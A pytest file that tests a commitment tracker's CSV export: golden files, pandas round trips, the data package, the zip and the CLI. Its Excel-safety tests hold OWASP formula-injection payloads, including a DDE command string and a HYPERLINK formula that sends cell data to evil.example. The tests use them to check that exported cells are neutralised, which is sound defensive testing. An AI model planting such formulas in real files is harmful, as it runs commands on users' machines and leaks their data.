"""CSV export: golden files, pandas round trip, Excel safety, the data package, the zip and the
`export` command, on the canonical fixture (and the bundled data for its golden files), with
the recorded votes of tests/fixtures/votes; and the votes tables of the bundled vote files."""

from __future__ import annotations

import argparse
import csv
import datetime as dt
import difflib
import io
import itertools
import json
import os
import shutil
import types
import zipfile
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Annotated, Any, TypeVar, Union, get_args, get_origin

import frictionless
import jsonschema
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pydantic import AfterValidator, BaseModel, BeforeValidator, StringConstraints

from tests.helpers import REPO
from tests.test_checks import with_predecessor
from tests.test_loader import MINI, write_fixture_copy
from tracker.cli import export as export_command
from tracker.cli.main import build_parser, main
from tracker.cli.progress import ProgressBar
from tracker.domain.model import Dataset, FootnoteReference, HoldsNsnw, Review, Text
from tracker.exchange import export
from tracker.exchange.export import (
    TABLES,
    FieldType,
    csv_bytes,
    export_files,
    export_zip,
    write_export,
)
from tracker.source import votes_table
from tracker.source.loader import load_dataset

VOTES_FIXTURE = REPO / "tests" / "fixtures" / "votes"
VOTES_TABLES = ("roll_calls", "state_votes")
GOLDEN = Path(__file__).parent / "golden" / "export"
UPDATE_GOLDEN = os.environ.get("UPDATE_GOLDEN") == "1"
AS_OF = dt.date(2026, 11, 26)
BOM = b"\xef\xbb\xbf"


def load_fixture() -> Dataset:
    dataset = load_dataset(MINI).dataset
    assert dataset is not None
    return dataset


FIXTURE = load_fixture()
OP4 = "A/RES/58/50:OP4"


@pytest.fixture(autouse=True)
def votes_subset(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The export carries the votes of tests/fixtures/votes (11 roll calls, 58 votes), so that
    the golden files stay small; snapshots go to the test's own folder."""
    monkeypatch.setenv(votes_table.VOTES_ENV, str(VOTES_FIXTURE))
    monkeypatch.setenv("TRACKER_CACHE", str(tmp_path / "cache"))


# --- helpers ------------------------------------------------------------------------------


def check_golden(folder: Path, files: dict[str, bytes]) -> None:
    """Compare `files` with the golden folder byte for byte, or rewrite it with UPDATE_GOLDEN=1."""
    if UPDATE_GOLDEN:
        folder.mkdir(parents=True, exist_ok=True)
        for stale in folder.iterdir():
            if stale.name not in files:
                stale.unlink()
        for name, content in files.items():
            (folder / name).write_bytes(content)
        return
    assert sorted(p.name for p in folder.iterdir()) == sorted(files), "UPDATE_GOLDEN=1 refreshes"
    for name, content in files.items():
        expected = (folder / name).read_bytes()
        if content != expected:
            diff = difflib.unified_diff(
                expected.decode("utf-8").splitlines(keepends=True),
                content.decode("utf-8").splitlines(keepends=True),
                f"golden/{name}",
                f"export/{name}",
            )
            pytest.fail(f"{name} differs (UPDATE_GOLDEN=1 refreshes):\n{''.join(list(diff)[:40])}")


def read_back(content: bytes, table: str, dictionary: pd.DataFrame) -> pd.DataFrame:
    """Read an exported CSV with pandas the way an analyst would: every cell as text with
    `keep_default_na=False`, then each column converted to the type the data dictionary gives."""
    raw = pd.read_csv(io.BytesIO(content), dtype=str, keep_default_na=False, encoding="utf-8")
    types_ = dictionary[dictionary["table"] == table].set_index("column")["type"]
    assert list(raw.columns) == list(types_.index)
    converted: dict[str, Any] = {}
    for name, kind in types_.items():
        cells = raw[name]
        if kind == "integer":
            converted[name] = pd.array([int(c) if c else None for c in cells], dtype="Int64")
        elif kind == "boolean":
            flags = {"true": True, "false": False, "": None}
            converted[name] = pd.array([flags[c] for c in cells], dtype="boolean")
        elif kind == "date":
            days = pd.to_datetime(cells.replace("", None), format="%Y-%m-%d")
            converted[name] = days.astype("datetime64[s]")
        else:
            assert kind == "string"
            converted[name] = cells.astype("str")
    return pd.DataFrame(converted, columns=list(types_.index))


def exported_dictionary(files: dict[str, bytes]) -> pd.DataFrame:
    return pd.read_csv(io.BytesIO(files["data_dictionary.csv"]), dtype=str, keep_default_na=False)


def excel_rows(content: bytes) -> list[list[str]]:
    assert content.startswith(BOM)
    return list(csv.reader(io.StringIO(content[len(BOM) :].decode("utf-8"), newline="")))


def plain_rows(content: bytes) -> list[list[str]]:
    assert not content.startswith(BOM)
    return list(csv.reader(io.StringIO(content.decode("utf-8"), newline="")))


def enriched(dataset: Dataset) -> Dataset:
    """The fixture with every optional part filled in, so that every column has a value:
    a footnote, a cross-reference note, a group, Namibia's vote code NA, a contested item
    with more URLs, and a review that decided an assessment."""
    resolution = dataset.resolutions[0]
    references = resolution.cross_references
    note = Text(en="Step 9 also asks for transparency.", zh="第9步亦要求透明。")
    resolution = resolution.model_copy(
        update={
            "cross_references": (references[0].model_copy(update={"note": note}), *references[1:])
        }
    )
    footnote = FootnoteReference(
        marker="2",
        after=Text(en="such weapons;", zh="此类武器问题"),
        text=Text(en='See "step 9",\nline two.', zh="见“第9步”。"),
        cross_reference="NPT2000-15-9",
    )
    op4 = dataset.commitments[0].model_copy(
        update={"footnotes": (footnote,), "cross_references": ("NPT2000-15-9", "NPT2000-15-6")}
    )
    holds = HoldsNsnw(
        value="yes", evidence=("E29",), note=Text(en="Estimates only.", zh="仅为估计。")
    )
    usa = dataset.actors[0].model_copy(update={"holds_nsnw": holds})
    namibia = dataset.actors[2].model_copy(
        update={
            "id": "NAM",
            "name": Text(en="Namibia", zh="纳米比亚"),
            "vote_code": "NA",
            "note": None,
        }
    )
    group = dataset.actors[3].model_copy(
        update={
            "id": "G2",
            "name": Text(en="The two", zh="两国"),
            "kind": "group",
            "members": ("RUS", "USA"),
        }
    )
    e29 = dataset.evidence[1]
    e29 = e29.model_copy(
        update={
            "date_note": "Fact sheet updated that month.",
            "source": e29.source.model_copy(
                update={
                    "additional_urls": ("https://a.example/x?a=1;b=2", "https://b.example/y"),
                    "archived_url": "https://archive.example/web/20261101/https://a.example/x",
                    "accessed": "2026-11",
                }
            ),
            "contested": Text(en="Russia disputes it.", zh="俄方有异议。"),
        }
    )
    decided = dataset.assessments[1].model_copy(update={"review": "R1"})
    first = dataset.assessments[0].model_copy(
        update={"confidence_note": Text(en="Only the vote is on record.", zh="仅有投票记录。")}
    )
    review = Review(
        id="R1",
        date=dt.date(2023, 6, 20),
        title=Text(en="June 2023 review", zh="2023年6月审查"),
        participants=("A. Analyst", "B. Reviewer"),
        decisions=(decided.id,),
        notes=Text(en="Agreed:\n- regressing", zh="一致同意"),
    )
    return dataset.model_copy(
        update={
            "resolutions": (resolution,),
            "commitments": (op4, *dataset.commitments[1:]),
            "actors": (usa, *dataset.actors[1:], namibia, group),
            "evidence": (dataset.evidence[0], e29, *dataset.evidence[2:]),
            "assessments": (first, decided, *dataset.assessments[2:]),
            "reviews": (review,),
        }
    )


RICH = enriched(FIXTURE)

Model = TypeVar("Model", bound=BaseModel)


def is_free_text(annotation: object, metadata: Sequence[object] = ()) -> bool:
    """A field of plain text: str, optional or in a tuple; not an id (a pattern), a date (its
    validators), a Literal or an enum."""
    for item in metadata:
        if isinstance(item, StringConstraints) and item.pattern:
            return False
        if isinstance(item, BeforeValidator | AfterValidator):
            return False
    origin = get_origin(annotation)
    if origin is Annotated:
        base, *meta = get_args(annotation)
        return is_free_text(base, meta)
    if origin in (Union, types.UnionType):
        return any(is_free_text(arg) for arg in get_args(annotation) if arg is not type(None))
    if origin is tuple:
        return is_free_text(get_args(annotation)[0])
    return annotation is str


def inject(record: Model, payloads: Iterator[str]) -> Model:
    """The record, rebuilt with the next of `payloads` in each free-text field, nested records
    and tuples of texts included."""
    update: dict[str, object] = {}
    for name, field in type(record).model_fields.items():
        value = getattr(record, name)
        text = is_free_text(field.annotation, field.metadata)
        if isinstance(value, BaseModel):
            update[name] = inject(value, payloads)
        elif isinstance(value, tuple):
            update[name] = tuple(
                inject(v, payloads) if isinstance(v, BaseModel) else next(payloads) if text else v
                for v in value
            )
        elif isinstance(value, str) and text:
            update[name] = next(payloads)
    return record.model_copy(update=update)


def free_text_columns() -> list[tuple[str, str]]:
    """(table, column) of every column that carries text from the data rather than ids,
    vocabulary values or dates; the data dictionary is written by the export itself, and the
    votes tables carry the text of the vote files, not of the data file."""
    return [
        (table.name, column.name)
        for table in TABLES
        if table.name not in ("data_dictionary", *VOTES_TABLES)
        for column in table.columns
        if column.type is FieldType.STRING
        and column.values is None
        and not column.pattern
        and not column.name.endswith(("_id", "_ids", "_symbol"))
        and (table.name, column.name) != ("vocabularies", "value")
    ]


# --- golden files -------------------------------------------------------------------------


def test_fixture_export_matches_golden_files() -> None:
    """The plain export of the fixture is byte for byte the reviewed golden files."""
    check_golden(GOLDEN / "mini", dict(export_files(FIXTURE, AS_OF, excel=False)))


def test_bundled_data_export_matches_golden_files() -> None:
    """The plain export of commitments.yaml is byte for byte tests/golden/export/bundled.

    After a reviewed change of the data: UPDATE_GOLDEN=1 pytest tests/test_export.py"""
    folder = GOLDEN / "bundled"
    result = load_dataset(REPO / "commitments.yaml")
    assert result.dataset is not None, [str(p) for p in result.problems]
    check_golden(folder, dict(export_files(result.dataset, AS_OF, excel=False)))


# --- the tables ---------------------------------------------------------------------------

FIXTURE_ROWS = {
    "resolutions": 1,
    "cross_references": 2,
    "commitments": 3,
    "commitment_criteria": 3,
    "commitment_footnotes": 0,
    "actors": 5,
    "evidence": 3,
    "evidence_links": 4,
    "evidence_actors": 7,
    "evidence_criteria": 1,
    "assessments": 7,
    "criteria_ratings": 10,
    "assessment_evidence": 6,
    "current_status": 6,
    "reviews": 0,
    "review_decisions": 0,
    "roll_calls": 11,
    "state_votes": 58,
    "vocabularies": 27,
    "data_dictionary": sum(len(table.columns) for table in TABLES),
}


def test_every_table_has_its_declared_columns_and_expected_rows() -> None:
    """Each table's frame has the declared columns, in order, with the declared dtypes."""
    tables = export.export_tables(FIXTURE, AS_OF)
    assert list(tables) == [table.name for table in TABLES]
    assert {name: len(frame) for name, frame in tables.items()} == FIXTURE_ROWS
    expected = {
        FieldType.STRING: "str",
        FieldType.INTEGER: "Int64",
        FieldType.BOOLEAN: "boolean",
        FieldType.DATE: "datetime64[s]",
    }
    for table in TABLES:
        frame = tables[table.name]
        assert list(frame.columns) == list(table.column_names)
        assert [str(frame[c.name].dtype) for c in table.columns] == [
            expected[c.type] for c in table.columns
        ], table.name


def test_column_names_are_snake_case_and_unique() -> None:
    for table in TABLES:
        assert len(set(table.column_names)) == len(table.columns), table.name
        for name in table.column_names:
            assert name.isascii() and name == name.lower() and " " not in name, name
        assert set(table.primary_key) <= set(table.column_names)
        for key in table.foreign_keys:
            assert set(key.columns) <= set(table.column_names)
            assert set(key.references) <= set(export.TABLES_BY_NAME[key.table].column_names)


def test_the_record_of_corrections_and_lineage_is_exported(tmp_path: Path) -> None:
    """Each assessment says when it was recorded and what it corrects, and the status table
    counts only the correction; a paragraph names its successor."""
    tables = export.export_tables(FIXTURE, AS_OF)
    rows = tables["assessments"].set_index("assessment_id")
    fix = rows.loc["AS-OP4-USA-2023-06-16-2"]
    assert fix["corrects_assessment_id"] == "AS-OP4-USA-2023-06-16"
    assert fix["correction_reason_en"].startswith("E40 reports Russian warheads")
    assert fix["recorded"] == pd.Timestamp("2026-11-20")
    status = tables["current_status"].set_index(["commitment_id", "actor_id"])
    assert status.loc[(OP4, "USA"), "assessment_id"] == "AS-OP4-USA-2023-06-16-2"
    lineage = load_dataset(write_fixture_copy(with_predecessor(), tmp_path), today=AS_OF)
    assert lineage.dataset is not None
    commitments = export.commitments_table(lineage.dataset).set_index("commitment_id")
    assert commitments.loc["A/RES/57/58:OP4", "successor_id"] == OP4
    assert commitments.loc[OP4, "successor_id"] == ""


def test_status_as_of_moves_only_current_status() -> None:
    """--as-of picks the status in force; every other table keeps the full history."""
    before = export.export_tables(FIXTURE, dt.date(2003, 12, 7))
    after = export.export_tables(FIXTURE, AS_OF)
    assert set(before["current_status"]["status"]) == {"not_assessed"}
    status = after["current_status"].set_index(["commitment_id", "actor_id"])["status"]
    assert status[(OP4, "RUS")] == "regressing"
    for name in FIXTURE_ROWS:
        if name != "current_status":
            pd.testing.assert_frame_equal(before[name], after[name])


def test_wide_lists_match_their_link_tables() -> None:
    """A ;-list in a wide table and its link table hold the same pairs."""
    tables = export.export_tables(RICH, AS_OF)
    cases = [
        ("evidence", "evidence_id", "commitment_ids", "evidence_links", "commitment_id"),
        ("evidence", "evidence_id", "actor_ids", "evidence_actors", "actor_id"),
        ("evidence", "evidence_id", "criteria", "evidence_criteria", "criterion"),
        ("assessments", "assessment_id", "evidence_ids", "assessment_evidence", "evidence_id"),
        ("reviews", "review_id", "decision_ids", "review_decisions", "assessment_id"),
        ("commitments", "commitment_id", "criteria", "commitment_criteria", "criterion"),
    ]
    for wide, key, listed, link, other in cases:
        pairs = {
            (row[key], item)
            for row in tables[wide].to_dict("records")
            for item in row[listed].split(";")
            if item
        }
        linked = set(zip(tables[link][key], tables[link][other], strict=True))
        assert pairs == linked and pairs, (wide, listed)


def test_dates_keep_their_precision() -> None:
    evidence = export.evidence_table(FIXTURE).set_index("evidence_id")
    assert evidence.loc["E29", "date"] == "2012-08"
    assert evidence.loc["E29", "date_precision"] == "month"
    assert evidence.loc["E29", "date_start"] == pd.Timestamp("2012-08-01")


def test_allowed_values_come_from_the_methodology() -> None:
    """A status added to the methodology is allowed in the dictionary and the data package."""
    method = FIXTURE.methodology
    extra = method.statuses[0].model_copy(update={"id": "withdrawn", "order": 9})
    changed = method.model_copy(update={"statuses": (*method.statuses, extra)})
    dictionary = export.data_dictionary_table(changed).set_index(["table", "column"])
    allowed = dictionary.loc[("assessments", "status"), "allowed_values"].split(";")
    assert allowed == [level.id for level in sorted(changed.statuses, key=lambda s: s.order)]
    assert allowed[-1] == "withdrawn"
    package = export.datapackage(changed, AS_OF, excel=False)
    fields = {
        (resource["name"], field["name"]): field
        for resource in package["resources"]
        for field in resource["schema"]["fields"]
    }
    assert fields[("current_status", "status")]["constraints"]["enum"] == allowed
    vocabularies = export.vocabularies_table(changed)
    assert "withdrawn" in set(vocabularies[vocabularies.vocabulary == "statuses"]["value"])


# --- round trip ---------------------------------------------------------------------------


def assert_round_trip(tables: dict[str, pd.DataFrame], files: dict[str, bytes]) -> None:
    dictionary = exported_dictionary(files)
    for name, frame in tables.items():
        back = read_back(files[f"{name}.csv"], name, dictionary)
        pd.testing.assert_frame_equal(back, frame, check_exact=True, obj=name)


def test_tables_round_trip_through_pandas() -> None:
    """Plain CSV read back with pandas and the data dictionary's types equals the tables;
    Namibia's vote code stays the text NA, and line breaks and quotes survive."""
    files = dict(export_files(RICH, AS_OF, excel=False))
    assert_round_trip(export.export_tables(RICH, AS_OF), files)
    actors = read_back(files["actors.csv"], "actors", exported_dictionary(files))
    assert actors.set_index("actor_id").loc["NAM", "vote_code"] == "NA"
    notes = read_back(
        files["commitment_footnotes.csv"], "commitment_footnotes", exported_dictionary(files)
    )
    assert notes.loc[0, "text_en"] == 'See "step 9",\nline two.'


OWASP_PAYLOADS = [
    "=1+2",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "-1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=1+1\n=2+2",
    'a,"b"\r\nc',
    "'=already quoted",
    "=中文公式",
    "中文 = 不是公式",
    "",
]
TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]
payloads = st.one_of(
    st.sampled_from(OWASP_PAYLOADS),
    st.builds(lambda head, tail: head + tail, st.sampled_from(TRIGGERS), st.text(max_size=12)),
    st.text(max_size=20),
)


def check_injected(dataset: Dataset) -> None:
    """The plain variant round-trips exactly; in the Excel variant no text cell begins with
    = + - @ tab or CR, and a cell differs from the plain one only by a leading ' where the plain
    cell begins with one of them."""
    tables = export.export_tables(dataset, AS_OF)
    plain = {f"{name}.csv": csv_bytes(frame, excel=False) for name, frame in tables.items()}
    excel = {f"{name}.csv": csv_bytes(frame, excel=True) for name, frame in tables.items()}
    assert_round_trip(tables, plain)
    for table in TABLES:
        plain_table = plain_rows(plain[table.file_name])
        excel_table = excel_rows(excel[table.file_name])
        assert plain_table[0] == excel_table[0] == list(table.column_names)
        for plain_row, excel_row in zip(plain_table[1:], excel_table[1:], strict=True):
            for column, before, after in zip(table.columns, plain_row, excel_row, strict=True):
                if column.type is FieldType.STRING and before.startswith(tuple(TRIGGERS)):
                    assert after == "'" + before
                else:
                    assert after == before
                if column.type is FieldType.STRING:
                    assert not after.startswith(tuple(TRIGGERS))


def test_owasp_payloads_in_every_text_field() -> None:
    """Each OWASP CSV-injection payload, spread over every text field of the fixture."""
    check_injected(inject(RICH, itertools.cycle(OWASP_PAYLOADS)))


@settings(max_examples=20, deadline=None)
@given(st.lists(payloads, min_size=1, max_size=6))
def test_any_text_in_every_text_field(texts: list[str]) -> None:
    """Any texts, formula-like or not, spread over every text field of the fixture."""
    check_injected(inject(RICH, itertools.cycle(texts)))


def test_payload_injection_reaches_every_free_text_column() -> None:
    """The injection helper leaves ids alone and fills every text column (guards the property)."""
    dataset = inject(RICH, itertools.repeat("PAYLOAD"))
    assert dataset.commitments[0].id == OP4
    assert dataset.evidence[1].date == "2012-08"
    assert dataset.actors[-1].members == ("RUS", "USA")
    tables = export.export_tables(dataset, AS_OF)
    for name, column in free_text_columns():
        assert tables[name][column].str.contains("PAYLOAD").any(), (name, column)
    assert len(free_text_columns()) > 50


# --- Excel variant ------------------------------------------------------------------------


def test_excel_variant_keeps_chinese_and_marks_utf8_with_bom() -> None:
    """The Excel variant starts with the UTF-8 BOM and decodes to the Chinese text itself."""
    content = dict(export_files(FIXTURE, AS_OF, excel=True))["commitments.csv"]
    assert content.startswith(BOM)
    text = content[len(BOM) :].decode("utf-8", errors="strict")
    op4 = FIXTURE.commitments[0]
    assert op4.text.zh and op4.text.zh in text
    assert "吁请" in text and "\ufffd" not in text
    rows = excel_rows(content)
    assert rows[1][rows[0].index("verb_zh")] == "吁请"
    plain = dict(export_files(FIXTURE, AS_OF, excel=False))["commitments.csv"]
    assert not plain.startswith(BOM) and op4.text.zh.encode("utf-8") in plain


@pytest.mark.parametrize(
    ("value", "dtype", "plain", "excel"),
    [
        (-5, "Int64", "-5", "-5"),
        (-1.5, "float64", "-1.5", "-1.5"),
        (None, "float64", "", ""),
        ("-5", "str", "-5", "'-5"),
        ("=SUM(A1:A2)", "str", "=SUM(A1:A2)", "'=SUM(A1:A2)"),
        ("@x", "str", "@x", "'@x"),
        ("\tx", "str", "\tx", "'\tx"),
        ("\rx", "str", '"\rx"', '"\'\rx"'),
        ("a=b", "str", "a=b", "a=b"),
        ('say "hi"\nbye', "str", '"say ""hi""\nbye"', '"say ""hi""\nbye"'),
        (True, "boolean", "true", "true"),
        (None, "Int64", "", ""),
    ],
)
def test_csv_cells(value: object, dtype: str, plain: str, excel: str) -> None:
    """Only text cells are neutralized; a negative number in a numeric column is not."""
    frame = pd.DataFrame({"v": pd.Series([value], dtype=dtype), "k": ["x"]})
    assert csv_bytes(frame, excel=False) == f"v,k\r\n{plain},x\r\n".encode()
    assert csv_bytes(frame, excel=True) == BOM + f"v,k\r\n{excel},x\r\n".encode()


def csv_module_bytes(rows: Sequence[Sequence[str]]) -> bytes:
    """The rows as Python's csv module writes them in the export's dialect."""
    out = io.StringIO()
    dialect = export.DIALECT
    csv.writer(
        out,
        delimiter=str(dialect["delimiter"]),
        quotechar=str(dialect["quoteChar"]),
        lineterminator=str(dialect["lineTerminator"]),
        quoting=csv.QUOTE_MINIMAL,
    ).writerows(rows)
    return out.getvalue().encode()


@settings(max_examples=60, deadline=None)
@given(st.lists(st.tuples(st.text(), st.text()), max_size=6), st.integers(0, 2))
def test_csv_quotes_as_the_csv_module_does(rows: list[tuple[str, str]], start: int) -> None:
    """Any text is written as Python's csv module writes it in the data package's dialect:
    quoted only where needed, an empty cell alone on its line quoted; also in a slice of a
    frame and in one built from pieces (Arrow arrays with an offset, or in chunks)."""
    frame = pd.DataFrame(
        {"a": [a for a, _ in rows], 'b, "c"': [b for _, b in rows]}, dtype="str"
    ).iloc[start:]
    for part in (frame, frame[["a"]], pd.concat([frame, frame], ignore_index=True)):
        expected = csv_module_bytes([list(part.columns), *part.to_numpy(dtype=object).tolist()])
        assert csv_bytes(part, excel=False) == expected


def test_csv_missing_cells() -> None:
    """A missing value of any type is an empty cell; alone on its line it is quoted, as the csv
    module writes an empty field alone, so that the record is not a blank line."""
    frame = pd.DataFrame(
        {
            "text": pd.Series([None, "x"], dtype="str"),
            "number": pd.Series([None, 1], dtype="Int64"),
            "flag": pd.Series([None, False], dtype="boolean"),
            "day": pd.Series([None, "2003-12-08"], dtype="datetime64[s]"),
        }
    )
    assert (
        csv_bytes(frame, excel=False) == b"text,number,flag,day\r\n,,,\r\nx,1,false,2003-12-08\r\n"
    )
    assert csv_bytes(frame[["text"]], excel=True) == BOM + b'text\r\n""\r\nx\r\n'
    assert csv_bytes(frame.iloc[:0], excel=False) == b"text,number,flag,day\r\n"


def test_data_dictionary_states_the_excel_rule() -> None:
    dictionary = export.data_dictionary_table(FIXTURE.methodology).set_index(["table", "column"])
    assert "'" in dictionary.loc[("evidence", "summary_en"), "excel_variant"]
    assert "not prefixed" in dictionary.loc[("current_status", "stale_days"), "excel_variant"]


# --- data package -------------------------------------------------------------------------

PACKAGE_SHAPE = {
    "type": "object",
    "required": ["profile", "name", "resources"],
    "properties": {
        "profile": {"const": "tabular-data-package"},
        "name": {"type": "string", "pattern": "^[a-z0-9._-]+$"},
        "resources": {
            "type": "array",
            "items": {
                "type": "object",
                "required": ["name", "path", "profile", "format", "encoding", "dialect", "schema"],
                "properties": {
                    "name": {"type": "string", "pattern": "^[a-z0-9._-]+$"},
                    "path": {"type": "string", "pattern": "^[a-z_]+\\.csv$"},
                    "schema": {
                        "type": "object",
                        "required": ["fields", "primaryKey", "missingValues"],
                        "properties": {
                            "fields": {
                                "type": "array",
                                "items": {
                                    "type": "object",
                                    "required": ["name", "type", "description"],
                                    "properties": {
                                        "type": {"enum": ["string", "integer", "boolean", "date"]}
                                    },
                                },
                            }
                        },
                    },
                },
            },
        },
    },
}


@pytest.mark.parametrize("excel", [False, True], ids=["plain", "excel"])
def test_datapackage_describes_every_csv_column(excel: bool) -> None:
    """datapackage.json has the shape of a tabular data package, one resource per CSV, and its
    fields are each file's header, in order."""
    files = dict(export_files(RICH, AS_OF, excel=excel))
    package = json.loads(files["datapackage.json"])
    jsonschema.validate(package, PACKAGE_SHAPE)
    assert [r["path"] for r in package["resources"]] == [t.file_name for t in TABLES]
    for resource in package["resources"]:
        header = (excel_rows if excel else plain_rows)(files[resource["path"]])[0]
        assert [field["name"] for field in resource["schema"]["fields"]] == header
        assert resource["encoding"] == "utf-8"


@pytest.mark.parametrize("excel", [False, True], ids=["plain", "excel"])
def test_datapackage_validates_with_frictionless(excel: bool, tmp_path: Path) -> None:
    """Frictionless reads every table with its types, keys and foreign keys without an error."""
    write_export(RICH, tmp_path, AS_OF, excel)
    report = frictionless.validate(str(tmp_path / "datapackage.json"))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
    assert len(report.tasks) == len(TABLES)


# --- zip and files ------------------------------------------------------------------------


def test_zip_holds_every_file_under_one_folder() -> None:
    content = export_zip(FIXTURE, AS_OF, excel=False)
    folder = "commitment-tracker-2026-11-26"
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert archive.testzip() is None
        assert archive.namelist() == [f"{folder}/{name}" for name in export.file_names()]
        assert archive.namelist()[:3] == [
            f"{folder}/README.md",
            f"{folder}/datapackage.json",
            f"{folder}/resolutions.csv",
        ]
        files = dict(export_files(FIXTURE, AS_OF, excel=False))
        for name, data in files.items():
            assert archive.read(f"{folder}/{name}") == data
    assert export_zip(FIXTURE, AS_OF, excel=False) == content, "same data, same bytes"
    excel = zipfile.ZipFile(io.BytesIO(export_zip(FIXTURE, AS_OF, excel=True)))
    assert excel.namelist()[0] == "commitment-tracker-2026-11-26-excel/README.md"


def test_write_export_writes_the_zip_files_and_reports_progress(tmp_path: Path) -> None:
    calls: list[tuple[int, int, str]] = []
    written = write_export(
        FIXTURE, tmp_path / "out", AS_OF, excel=True, progress=lambda *a: calls.append(a)
    )
    assert [p.name for p in written] == list(export.file_names())
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == sorted(export.file_names())
    files = dict(export_files(FIXTURE, AS_OF, excel=True))
    assert all(p.read_bytes() == files[p.name] for p in written)
    total = len(export.file_names())
    assert calls == [(i, total, name) for i, name in enumerate(export.file_names(), 1)]


# --- command line -------------------------------------------------------------------------


def parse(argv: list[str]) -> argparse.Namespace:
    return build_parser("export").parse_args(argv)


def run_export(args: argparse.Namespace) -> int:
    return export_command.run(args)


def test_cli_export_writes_the_files(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "export"
    args = parse(["export", str(MINI), "--out", str(out), "--as-of", "2003-12-08"])
    assert run_export(args) == 0
    assert sorted(p.name for p in out.iterdir()) == sorted(export.file_names())
    status = pd.read_csv(out / "current_status.csv", keep_default_na=False)
    assert set(status["as_of"]) == {"2003-12-08"}
    captured = capsys.readouterr()
    assert captured.out == ""
    assert "wrote 22 files" in captured.err and "\r" not in captured.err  # no bar off a TTY


def test_cli_export_excel_variant(tmp_path: Path) -> None:
    assert run_export(parse(["export", str(MINI), "--out", str(tmp_path), "--excel"])) == 0
    assert (tmp_path / "evidence.csv").read_bytes().startswith(BOM)


def test_cli_export_refuses_invalid_data(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Invalid data: exit 1, the problems on stderr, nothing written; unreadable: exit 2."""
    text = MINI.read_text(encoding="utf-8").replace("actor: RUS", "actor: XXX", 1)
    bad = write_fixture_copy(text, tmp_path)
    out = tmp_path / "out"
    assert run_export(parse(["export", str(bad), "--out", str(out)])) == 1
    assert "dangling-reference" in capsys.readouterr().err
    assert not out.exists()
    assert run_export(parse(["export", str(tmp_path / "missing.yaml"), "--out", str(out)])) == 2


def test_cli_export_rejects_a_bad_date() -> None:
    with pytest.raises(SystemExit) as exit_:
        parse(["export", "--out", "x", "--as-of", "26/11/2026"])
    assert exit_.value.code == 2


def test_cli_export_cannot_write(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("not a folder")
    assert run_export(parse(["export", str(MINI), "--out", str(blocker)])) == 2
    assert "cannot write" in capsys.readouterr().err


def test_cli_export_says_where_the_votes_are_broken(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """A vote file that cannot be used: exit 2 and `file:line: what is wrong`, no traceback."""
    folder = tmp_path / "votes"
    shutil.copytree(VOTES_FIXTURE, folder)
    path = folder / votes_table.VOTES_FILE
    path.write_bytes(path.read_bytes().replace(b"4494,France,FR,no", b"4494,France,FR,oui"))
    monkeypatch.setenv(votes_table.VOTES_ENV, str(folder))
    assert run_export(parse(["export", str(MINI), "--out", str(tmp_path / "out")])) == 2
    assert f"{path}:27: vote 'oui' is not one of yes, abstain, no" in capsys.readouterr().err


def test_python_m_tracker_export_is_wired(tmp_path: Path) -> None:
    """`python -m tracker export` runs the export command."""
    assert main(["export", str(MINI), "--out", str(tmp_path)]) == 0
    assert (tmp_path / "datapackage.json").exists()


# --- progress bar -------------------------------------------------------------------------


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


class Clock:
    def __init__(self) -> None:
        self.now = 100.0

    def __call__(self) -> float:
        return self.now


def test_progress_bar_is_silent_for_short_work_and_off_a_terminal() -> None:
    clock = Clock()
    terminal = Terminal()
    with ProgressBar("export", stream=terminal, clock=clock) as bar:
        clock.now += 0.5
        bar(10, 10, "done.csv")
    assert terminal.getvalue() == ""
    pipe = io.StringIO()
    with ProgressBar("export", stream=pipe, clock=clock) as bar:
        clock.now += 5
        bar(1, 2, "slow.csv")
    assert pipe.getvalue() == ""


def test_progress_bar_draws_after_a_second_on_a_terminal() -> None:
    clock = Clock()
    terminal = Terminal()
    with ProgressBar("export", stream=terminal, clock=clock, width=10) as bar:
        clock.now += 1.5
        bar(6, 20, "evidence.csv")
        clock.now += 0.01
        bar(7, 20, "throttled.csv")
        clock.now += 1
        bar(20, 20, "x.csv")
    drawn = terminal.getvalue()
    assert drawn.startswith("\rexport [###.......]  6/20 evidence.csv")
    assert "throttled" not in drawn
    assert "\rexport [##########] 20/20 x.csv" in drawn
    assert drawn.endswith("\n")


def test_the_page_frames_are_the_export_tables() -> None:
    """The tables the Export page builds once (all but the as-of one) plus the as-of table
    built per day are exactly `export_tables` of that day."""
    from tracker.exchange.export_view import fixed_frames, frames_on

    fixed = fixed_frames(FIXTURE)
    assert set(fixed) == {t.name for t in TABLES} - export.AS_OF_TABLES
    for day in (AS_OF, dt.date(2004, 1, 1)):
        frames = frames_on(fixed, FIXTURE, day)
        expected = export.export_tables(FIXTURE, day)
        assert list(frames) == list(expected)
        for name, frame in expected.items():
            pd.testing.assert_frame_equal(frames[name], frame)


# --- the recorded votes -------------------------------------------------------------------


def test_state_votes_are_the_vote_file_itself(monkeypatch: pytest.MonkeyPatch) -> None:
    """The bundled votes exported: state_votes.csv is disarmament_votes.csv byte for byte but
    for its CRLF line ends (NA stays Namibia's code, empty codes stay empty), and roll_calls
    holds every roll call with the dataset's cells as they are written."""
    monkeypatch.delenv(votes_table.VOTES_ENV)
    source = votes_table.BUNDLED
    tables = {name: export.build_table(name, FIXTURE, AS_OF) for name in VOTES_TABLES}
    written = csv_bytes(tables["state_votes"], excel=False)
    assert written == (source / votes_table.VOTES_FILE).read_bytes().replace(b"\n", b"\r\n")
    calls = tables["roll_calls"]
    assert len(calls) == 1385
    assert int(calls[["yes", "abstain", "no"]].to_numpy().sum()) == 215_972
